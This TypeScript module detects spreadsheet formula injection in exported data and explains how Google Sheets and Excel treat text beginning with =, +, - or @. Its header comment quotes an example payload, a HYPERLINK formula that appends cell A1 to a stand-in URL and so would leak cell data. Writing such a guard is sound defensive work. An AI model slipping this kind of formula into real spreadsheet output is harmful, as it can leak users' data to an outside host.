/**
 * Text from the data never becomes a formula, in any host. A school's name, a subject, a
 * procedure, a header of the official's export can begin with «=», «+», «-» or «@» (by mistake, or
 * on purpose: `=HYPERLINK("http://x"&A1,"y")`); written as it is, a spreadsheet would take it for a
 * formula and run it.
 *
 * - Google Sheets: `Range.setValues` / `setValue` read a string beginning with «=» as a formula
 *   unless the cell is formatted as plain text («@»)
 *   (https://developers.google.com/apps-script/reference/spreadsheet/range#setvaluesvalues,
 *   https://developers.google.com/apps-script/reference/spreadsheet/range#setformulaformula).
 *   The Sheets writers format such cells as «@» before writing them.
 * - Excel: «If the returned value starts with a plus ("+"), minus ("-"), or equal sign ("="), Excel
 *   interprets this value as a formula» (Range.values,
 *   https://learn.microsoft.com/en-us/javascript/api/excel/excel.range#excel-excel-range-values-member).
 *   The add-in writes such text with a leading apostrophe, which Excel keeps as the text marker.
 * - .xlsx files (exceljs) store strings as strings; the command line also formats such cells as
 *   text («@»), so that F2 and Enter in Excel or LibreOffice keep them text.
 *
 * Conservative on purpose: «@» (Lotus-style entry in Excel) and blanks or tabs before any of these
 * characters count too, whatever a host does with them today.
 */

/** Text starting, after optional whitespace, with «=», «+», «-» or «@». */
const FORMULA_LIKE = /^\s*[=+\-@]/;

/** Whether `value` is text a spreadsheet could take for a formula. */
export function isFormulaLike(value: unknown): value is string {
  return typeof value === 'string' && FORMULA_LIKE.test(value);
}

/** The cells of a grid (0-based row, column) holding formula-like text. */
export function formulaLikeCells(grid: readonly (readonly unknown[])[]): [number, number][] {
  const out: [number, number][] = [];
  grid.forEach((row, r) => row.forEach((v, c) => { if (isFormulaLike(v)) out.push([r, c]); }));
  return out;
}
